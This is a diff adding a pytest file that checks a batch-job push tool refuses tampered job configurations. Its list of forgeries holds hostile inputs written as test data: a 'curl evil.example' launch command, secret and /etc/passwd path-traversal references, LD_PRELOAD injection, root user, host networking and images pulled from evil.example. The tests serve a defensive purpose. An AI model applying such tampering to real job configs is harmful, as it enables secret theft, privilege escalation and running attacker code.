@@ -1,0 +1,152 @@
+"""A "round" that the collector's credential pushes runs, mounts or reaches something else than the round before."""
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from tests.commands.test_bootstrap import push
+from tests.commands.test_pushed_rounds import (
+    amended,
+    climbing,
+    pristine,
+    pristine_climb,
+    searching,
+)
+from tests.repository import Sandbox
+
+__all__ = ["climbing", "pristine", "pristine_climb", "searching"]  # fixtures
+
+Forge = Callable[[Path, str], None]
+
+
+def replaced(path: str, old: str, new: str, *, every: bool = True) -> Forge:
+    """Change a text in a file of the round; `{batch}` is its name."""
+
+    def forge(folder: Path, batch: str) -> None:
+        file = folder / path
+        text, before = file.read_text(), old.replace("{batch}", batch)
+        assert before in text, f"{before!r} is not in {path}"
+        file.write_text(text.replace(before, new.replace("{batch}", batch), -1 if every else 1))
+
+    return forge
+
+
+def appended(path: str, text: str) -> Forge:
+    def forge(folder: Path, batch: str) -> None:
+        with (folder / path).open("a") as file:
+            file.write(text.replace("{batch}", batch))
+
+    return forge
+
+
+def reindented(folder: Path, batch: str) -> None:
+    """The example of the report: a reader by lines does not see the command, but the launcher does."""
+    launch = json.loads((folder / "launch.json").read_text())
+    launch["command"] = ["sh", "-c", "curl evil.example"]
+    (folder / "launch.json").write_text(json.dumps(launch, indent=2))
+
+
+def on_one_line(folder: Path, batch: str) -> None:
+    launch = json.loads((folder / "launch.json").read_text())
+    (folder / "launch.json").write_text(json.dumps(launch))
+
+
+JOB, LAUNCH, LOCK, KUSTOMIZATION = "job.yaml", "launch.json", "batch.yaml", "kustomization.yaml"
+FORGERIES: dict[str, Forge] = {
+    "another command, re-indented": reindented,
+    "the same launch.json on one line": on_one_line,
+    "another command as it is written": replaced(LAUNCH, '"code/train.py"', '"/sweep/results/evil.py"'),
+    "a second command at the end": replaced(LAUNCH, ' "version": 1', ' "command": ["sh"],\n "version": 1'),
+    "another interpreter": replaced(LAUNCH, '"interpreter": "python3"', '"interpreter": "sh"'),
+    "a secret": replaced(LAUNCH, '"secrets": {}', '"secrets": {"X": "/sweep/git/password"}'),
+    "a longer time": replaced(LAUNCH, '"timeout_seconds": 60', '"timeout_seconds": 999999'),
+    "a command among the rules to stop": replaced(
+        LAUNCH, ' "timeout_seconds"', ' "stop": [\n  "sh -c evil"\n ],\n "timeout_seconds"'
+    ),
+    "a command among the tables": replaced(LAUNCH, '   "first": 0', '   "first": 0,\n   "command": ["sh"]'),
+    "a remote base": replaced(
+        KUSTOMIZATION, "resources:\n", 'resources:\n- "https://evil.example/x?ref=main"\n'
+    ),
+    "a patch": appended(KUSTOMIZATION, 'patches:\n- path: "hyperparams.csv"\n'),
+    "a file of the runner's": replaced(
+        KUSTOMIZATION, '  - "launch.json"\n', '  - "launch.json"\n  - "x=../../../../etc/passwd"\n'
+    ),
+    "another launcher in the map": replaced(
+        KUSTOMIZATION, '  - "launch.py"', '  - "launch.py=hyperparams.csv"'
+    ),
+    "a plug-in": appended(KUSTOMIZATION, 'helmCharts:\n- name: "evil"\n'),
+    "a variable": replaced(
+        JOB,
+        '        - name: "HOME"',
+        '        - name: "LD_PRELOAD"\n          value: "/x.so"\n        - name: "HOME"',
+    ),
+    "another value of a variable": replaced(JOB, 'value: "/sweep/scratch"', 'value: "/sweep/results"'),
+    "a variable called like a parameter, from a Secret": replaced(
+        JOB,
+        '        - name: "HOME"',
+        '        - name: "SWEEP_PARAM_Z"\n          valueFrom: {secretKeyRef: {name: git, key: password}}\n'
+        '        - name: "HOME"',
+    ),
+    "another first word of the command": replaced(
+        JOB, '        - "python3"', '        - "/sweep/results/python3"'
+    ),
+    "arguments of no command": replaced(JOB, '        - "--"\n', ""),
+    "arguments of the launcher": replaced(JOB, '        - "--"\n', '        - "-c"\n        - "--"\n'),
+    "another folder of the results": replaced(JOB, 'subPath: "{batch}/0"', 'subPath: "other-b1-00000000/0"'),
+    "more cores": replaced(JOB, 'cpu: "1"', 'cpu: "64"'),
+    "capabilities": replaced(JOB, '            - "ALL"', '            - "NET_RAW"'),
+    "root": replaced(JOB, "runAsUser: 65532", "runAsUser: 0"),
+    "a second container": replaced(
+        JOB, "      containers:\n", '      containers:\n      - {name: "x", image: "evil.example/x"}\n'
+    ),
+    "an init container": replaced(
+        JOB,
+        "      containers:\n",
+        '      initContainers:\n      - image: "evil.example/x"\n      containers:\n',
+    ),
+    "another object": appended(JOB, '---\napiVersion: "v1"\nkind: "Pod"\nmetadata:\n  name: "{batch}-x"\n'),
+    "an object after a document's end": appended(JOB, '...\n---\nkind: "Pod"\n'),
+    "lines that only look like lines": replaced(JOB, "      containers:\n", "      containers:\x1e"),
+    "the node's network": replaced(JOB, "restartPolicy:", "hostNetwork: true\n      restartPolicy:"),
+    "another image in the lock": replaced(LOCK, "registry.example.org/train@", "evil.example/train@"),
+    "another code in the lock": replaced(LOCK, '    path: "code"', '    path: "trainer"'),
+    "another base in the lock": replaced(LOCK, '- "launcher/v1"', '- "launcher/v9"'),
+    "more retries": replaced(LOCK, "retries: 0", "retries: 1000"),
+}
+
+
+@pytest.mark.parametrize("forgery", FORGERIES)
+def test_a_round_that_is_made_otherwise_is_refused(forgery: str, searching: Sandbox) -> None:
+    (batch,) = searching.active()
+    FORGERIES[forgery](searching.root / "overlays/active" / batch, batch)
+    amended(searching)
+
+    assert f"{batch} is not made as" in push(searching)
+
+
+@pytest.mark.parametrize(
+    "missing", ["batch.yaml", "job.yaml", "kustomization.yaml", "launch.json", "launch.py"]
+)
+def test_a_round_without_one_of_its_files_is_refused(missing: str, searching: Sandbox) -> None:
+    (batch,) = searching.active()
+    searching.git("rm", "-q", f"overlays/active/{batch}/{missing}")
+    amended(searching)
+
+    assert push(searching) != ""
+
+
+def test_values_numbers_and_thresholds_are_the_rounds_own(searching: Sandbox) -> None:
+    (batch,) = searching.active()
+    folder = searching.root / "overlays/active" / batch
+    stop = ' "stop": [\n  {\n   "rule": "thresholds",\n   "values": [\n    1.5,\n    null\n   ]\n  }\n ],\n'
+    for forge in (
+        replaced(LAUNCH, ' "timeout_seconds"', f'{stop} "timeout_seconds"'),
+        replaced(LOCK, 'generator: "0.1.0"', 'generator: "0.2.0"'),
+        replaced(JOB, 'sweepledger.dev/generator: "0.1.0"', 'sweepledger.dev/generator: "0.2.0"'),
+    ):
+        forge(folder, batch)
+    amended(searching)
+
+    assert push(searching) == ""
